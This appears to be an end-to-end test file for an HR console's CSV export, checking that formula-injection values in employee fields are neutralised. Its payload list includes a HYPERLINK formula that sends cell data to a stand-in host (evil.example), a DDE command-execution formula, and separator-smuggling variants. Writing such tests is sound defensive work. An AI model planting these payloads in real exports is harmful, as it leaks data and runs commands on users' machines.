import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { until } from '../cli/support/running.ts';
import { staff } from '../cli/support/small-company.ts';
import { type Rig, rig } from './support/rig.ts';
import { COMPUTED, cellsOf } from './support/spreadsheet.ts';

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff@SUM(1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example/?"&A1,"look")',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  'x","=1+1',
  'x;=1+1',
  'x\t=1+1',
  'x\r\n=1+1',
  'x; ＝1+1',
];
const TEXTS = ['name', 'mail', 'title', 'type', 'department', 'location', 'company', 'manager'] as const;

let console: Rig;
beforeAll(async () => {
  console = await rig();
  const { file, meta } = await console.company.report(
    staff(12, { E101: { given: '=1+1', family: 'Reyes' }, E102: { given: '＠SUM(A1)', family: 'x;=2' } }),
  );
  expect((await console.at('import', 'hr', file, '--meta', meta)).exit).toBe(0);
  await until(() => console.company.systems.get('git')?.truth.find('E100')?.active === true);
});
afterAll(() => console.close());

async function saved(page: Page): Promise<string> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export CSV' }).first().click(),
  ]);
  expect(download.suggestedFilename()).toMatch(/^[\w-]+\.csv$/);
  return readFile(await download.path(), 'utf8');
}

function expectNothingRuns(text: string): void {
  for (const separator of [',', ';', '\t'])
    for (const row of cellsOf(text, separator))
      for (const cell of row)
        expect([separator, cell]).not.toEqual([separator, expect.stringMatching(COMPUTED)]);
}

test('people whose names are formulas are names in the file that the browser keeps', async () => {
  const { page, troubles, close } = await console.open('/people');
  await expect.poll(() => page.locator('.person-link').count()).toBe(12);
  const text = await saved(page);
  expectNothingRuns(text);
  const [head = [], ...rows] = cellsOf(text, ',');
  expect(rows).toHaveLength(12);
  const names = rows.map((row) => row[head.indexOf('name')]);
  expect(names).toContain("'=1+1 Reyes");
  expect(names).toContain("'＠SUM(A1) x;'=2");
  expect(troubles).toEqual([]);
  await close();
});

test('whatever stands in whichever column, no cell is computed, and each stays one cell', async () => {
  const { page, close } = await console.open('/favicon.svg');
  await page.route(/\/api\/v1\/people\?/, async (route) => {
    const answer = await route.fetch();
    const { people, ...rest } = (await answer.json()) as { readonly people: readonly object[] };
    const [one = {}] = people;
    const hostile = HOSTILE.map((text, n) => ({
      ...one,
      id: `id-${n}`,
      ...Object.fromEntries(TEXTS.map((name) => [name, text])),
      employments: [text],
    }));
    await route.fulfill({ response: answer, json: { ...rest, people: hostile, next: null } });
  });
  await page.goto(`${console.url}/people`);
  await page.getByRole('table', { name: 'People' }).waitFor();
  const text = await saved(page);
  expectNothingRuns(text);
  const [head = [], ...rows] = cellsOf(text, ',');
  expect(rows.map((row) => row.length)).toEqual(HOSTILE.map(() => head.length));
  for (const [n, hostile] of HOSTILE.entries())
    for (const name of [...TEXTS, 'employments'])
      expect([name, rows[n]?.[head.indexOf(name)]?.replaceAll("'", '')]).toEqual([
        name,
        hostile.replaceAll("'", ''),
      ]);
  await close();
});
